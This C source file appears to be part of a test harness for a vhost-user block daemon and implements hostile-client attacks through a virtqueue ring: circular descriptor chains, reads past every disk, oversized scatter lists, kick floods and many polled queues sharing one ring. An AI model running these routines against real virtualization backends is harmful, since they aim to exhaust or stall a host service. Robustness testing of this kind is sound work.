/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Attacks by one client through its ring; see vub-attack.c. */
#include <string.h>

#include "vub-attack.h"

enum {
    DESCS_PER_REQUEST = 3,
    REQUESTS = ATTACK_RING_SIZE / DESCS_PER_REQUEST,
    BIG_DESCS = 128,
    BIG_REQUESTS = ATTACK_RING_SIZE / BIG_DESCS,
    BIG_SEGMENT = 1 << 20,
    POLLED_QUEUES = 64,
};

static struct vring_desc *desc_at(Attack *a, unsigned i)
{
    return &a->ring.vring.desc[i];
}

/* Where request @slot has its header; the status byte lies behind it. */
static struct virtio_blk_outhdr *header_at(Attack *a, unsigned slot, uint64_t *ret_gpa)
{
    *ret_gpa = ATTACK_HEADERS + slot * 64;
    return (struct virtio_blk_outhdr *)(a->memory.base + *ret_gpa);
}

static void offer(Attack *a, unsigned head)
{
    VubRing *ring = &a->ring;

    ring->vring.avail->ring[ring->avail_idx++ % ATTACK_RING_SIZE] = head;
}

/* All @slots of @descs descriptors each are available, or will be as soon as they are used. */
static bool refill(Attack *a, unsigned slots, unsigned descs)
{
    VubRing *ring = &a->ring;
    uint16_t used = vub_ring_used(ring);

    if (ring->avail_idx == 0 && ring->used_idx == 0) {
        for (unsigned slot = 0; slot < slots; slot++) {
            offer(a, slot * descs);
        }
    }
    while (ring->used_idx != used) {
        offer(a, ring->vring.used->ring[ring->used_idx++ % ATTACK_RING_SIZE].id);
    }
    vub_ring_publish(ring);
    vub_ring_kick(ring);
    attack_pause();
    return true;
}

/* A descriptor that is always readable is given up by the daemon after a while: send it anew. */
bool attack_kicks(Attack *a)
{
    for (int i = 0; i < 100; i++) {
        vub_ring_kick(&a->ring);
    }
    return a->steps % 64 ? true
                         : vub_send_u64(a->sock, VUB_SET_VRING_KICK, a->ring.index, a->ring.kick);
}

/* Nothing but loops would have the ring given up soon: one chain of all has an end. */
bool attack_chains_begin(Attack *a)
{
    const unsigned loop = ATTACK_RING_SIZE - 1;

    if (!attack_ring_begin(a)) {
        return false;
    }
    *desc_at(a, loop) = (struct vring_desc){ ATTACK_DATA, 16, 0, 0 };
    for (unsigned i = 0; i < loop; i++) {
        *desc_at(a, i) = (struct vring_desc){
            .addr = ATTACK_DATA,
            .flags = VRING_DESC_F_NEXT,
            .next = (i + 1) % loop,
        };
    }
    return true;
}

bool attack_chains(Attack *a)
{
    return refill(a, ATTACK_RING_SIZE, 1);
}

/* A header, no data, a status: a read beyond every disk. */
bool attack_requests_begin(Attack *a)
{
    if (!attack_ring_begin(a)) {
        return false;
    }
    for (unsigned slot = 0; slot < REQUESTS; slot++) {
        unsigned i = slot * DESCS_PER_REQUEST;
        uint64_t gpa;
        struct virtio_blk_outhdr *header = header_at(a, slot, &gpa);

        header->type = VIRTIO_BLK_T_IN;
        header->sector = UINT64_MAX;
        *desc_at(a, i) = (struct vring_desc){ gpa, sizeof(*header), VRING_DESC_F_NEXT, i + 1 };
        *desc_at(a, i + 1) = (struct vring_desc){ gpa + sizeof(*header), 1, VRING_DESC_F_WRITE, 0 };
    }
    return true;
}

bool attack_requests(Attack *a)
{
    return refill(a, REQUESTS, DESCS_PER_REQUEST);
}

bool attack_big_begin(Attack *a)
{
    if (!attack_ring_begin(a)) {
        return false;
    }
    for (unsigned slot = 0; slot < BIG_REQUESTS; slot++) {
        unsigned i = slot * BIG_DESCS;
        uint64_t gpa;
        struct virtio_blk_outhdr *header = header_at(a, slot, &gpa);

        header->type = VIRTIO_BLK_T_IN;
        header->sector = 0;
        *desc_at(a, i) = (struct vring_desc){ gpa, sizeof(*header), VRING_DESC_F_NEXT, i + 1 };
        for (unsigned part = 1; part < BIG_DESCS - 1; part++) {
            *desc_at(a, i + part) =
                (struct vring_desc){ ATTACK_DATA, BIG_SEGMENT,
                                     VRING_DESC_F_NEXT | VRING_DESC_F_WRITE, i + part + 1 };
        }
        *desc_at(a, i + BIG_DESCS - 1) =
            (struct vring_desc){ gpa + sizeof(*header), 1, VRING_DESC_F_WRITE, 0 };
    }
    return true;
}

bool attack_big(Attack *a)
{
    return refill(a, BIG_REQUESTS, BIG_DESCS);
}

/* All queues on the memory of one ring, none with a kick descriptor. */
bool attack_poll_begin(Attack *a)
{
    bool ok = attack_ring_begin(a);

    for (unsigned i = 1; i < POLLED_QUEUES && ok; i++) {
        VubRing other = a->ring;

        other.index = i;
        ok = vub_ring_start(a->sock, &other) &&
             vub_send_u64(a->sock, VUB_SET_VRING_KICK, i | VUB_NO_FD, -1);
    }
    return ok && vub_send_u64(a->sock, VUB_SET_VRING_KICK, VUB_NO_FD, -1);
}

bool attack_poll(Attack *a)
{
    attack_pause();
    return true;
}
